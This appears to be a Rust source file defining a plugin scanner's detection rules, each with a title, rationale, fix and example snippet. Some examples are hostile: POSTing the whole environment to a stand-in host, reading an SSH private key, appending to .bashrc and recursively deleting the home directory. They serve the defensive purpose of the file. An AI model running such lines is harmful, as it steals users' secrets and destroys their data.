//! Rules about what code reaches: secrets, files, the network, what others use.

use crate::finding::Severity;
use crate::rule::{Family, Rule};

/// All of them.
pub(super) const RULES: &[&Rule] = &[
    &EXFIL,
    &SECRET_PATH,
    &PERSISTENCE,
    &FS_ACCESS,
    &FS_HOME,
    &NET_ACCESS,
    &ENV_READ,
    &GLOBAL_MUTATION,
    &WASM,
    &ROOT_ESCAPE,
];

/// Secrets are read where the network is reached.
pub static EXFIL: Rule = Rule {
    id: "exfil",
    family: Family::Exfil,
    severity: Severity::Danger,
    title: "secrets are read where the network is reached",
    what: "The whole environment, an environment variable with the name of a secret, or a place where credentials lie, read in a file that also reaches the network, by itself or through `ctx.fetch`.",
    why: "Reading a secret and sending it away is all that theft needs.",
    example: "fetch('https://example.com/', { method: 'POST', body: JSON.stringify(process.env) });",
    fix: "Declare the key in the manifest's `config`, and let the host give it to the plugin.",
};

/// A place where credentials lie.
pub static SECRET_PATH: Rule = Rule {
    id: "secret-path",
    family: Family::SecretPath,
    severity: Severity::Danger,
    title: "a place where credentials lie",
    what: "A path of SSH keys, cloud credentials, tokens, password stores, browser profiles and the like that reaches a function of the file system, a command, or the host by `ctx.read` and the like.",
    why: "No plugin has business there; what it needs, the user configures.",
    example: "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');",
    fix: "Declare what the plugin needs in the manifest's `config`.",
};

/// Something stays behind that runs again.
pub static PERSISTENCE: Rule = Rule {
    id: "persistence",
    family: Family::Persistence,
    severity: Severity::Danger,
    title: "something stays behind that runs again",
    what: "Writing to start files of shells, Git hooks, timetables, services, the settings or hooks of the agent, or setting variables such as `NODE_OPTIONS` that change what other programs load.",
    why: "What runs again later runs outside every check that the plugin passed, and stays when the plugin is removed.",
    example: "require('fs').appendFileSync('/home/user/.bashrc', 'run');",
    fix: "Contribute a hook or command through the manifest, which the user sees and can remove.",
};

/// A home is removed.
pub static FS_HOME: Rule = Rule {
    id: "fs-access/home",
    family: Family::FsAccess,
    severity: Severity::Danger,
    title: "a home is removed",
    what: "`rm` or `rmdir` of `node:fs`, or the like of another runtime, whose path is the home of the user or the root.",
    why: "It cannot be undone.",
    example: "import fs from 'node:fs';\nimport { homedir } from 'node:os';\nfs.rmSync(homedir(), { recursive: true });",
    fix: "Remove only files that the plugin has made.",
};

/// Files are read or written.
pub static FS_ACCESS: Rule = Rule {
    id: "fs-access",
    family: Family::FsAccess,
    severity: Severity::Warning,
    title: "files are read or written",
    what: "Loading `node:fs` or `node:fs/promises`.",
    why: "Which files is decided when the plugin runs; declare them, so that the sandbox can hold the plugin to it.",
    example: "import fs from 'node:fs';",
    fix: "Use the `read` and `write` capabilities of the host.",
};

/// The network is reached.
pub static NET_ACCESS: Rule = Rule {
    id: "net-access",
    family: Family::NetAccess,
    severity: Severity::Warning,
    title: "the network is reached",
    what: "Loading one of Node's network modules, or using `fetch`, `WebSocket`, `EventSource` or `XMLHttpRequest`.",
    why: "What reaches the network can send what it knows and bring what nobody reviewed.",
    example: "fetch('https://example.com/');",
    fix: "Use the `fetch` capability of the host with the domains that the manifest declares.",
};

/// The environment is read.
pub static ENV_READ: Rule = Rule {
    id: "env-read",
    family: Family::EnvRead,
    severity: Severity::Warning,
    title: "the environment is read",
    what: "Reading `process.env`, or what shows all of it: reports and memory of the process. `NODE_ENV` alone is only told.",
    why: "Environments hold tokens and passwords of whoever runs the plugin.",
    example: "const home = process.env.HOME;",
    fix: "Declare the value in the manifest's `config`.",
};

/// What others use is changed.
pub static GLOBAL_MUTATION: Rule = Rule {
    id: "global-mutation",
    family: Family::GlobalMutation,
    severity: Severity::Warning,
    title: "what others use is changed",
    what: "Assigning members of the global object, of built-in prototypes, of Node's modules; setters on prototypes; writing to the standard output; changing the whole process, or listening to all that it asks of the network.",
    why: "Other code, the host's shims included, then runs with what the plugin put there.",
    example: "Array.prototype.map = () => [];",
    fix: "Keep state in your own modules and write helper functions.",
};

/// WebAssembly is run.
pub static WASM: Rule = Rule {
    id: "wasm",
    family: Family::Wasm,
    severity: Severity::Warning,
    title: "WebAssembly is run",
    what: "Compiling or instantiating WebAssembly, or `node:wasi`.",
    why: "The rules do not read WebAssembly.",
    example: "WebAssembly.instantiate(bytes);",
    fix: "Ship the sources next to the module and say in the README how it was built.",
};

/// A root object travels.
pub static ROOT_ESCAPE: Rule = Rule {
    id: "root-escape",
    family: Family::RootEscape,
    severity: Severity::Warning,
    title: "a root object travels",
    what: "The global object, `process`, `module`, `require` or the like is stored, returned or passed to a function.",
    why: "From a root object everything can be reached, and each step away from its name makes that harder to see.",
    example: "const box = { it: globalThis };",
    fix: "Use the object where it is, by its name.",
};
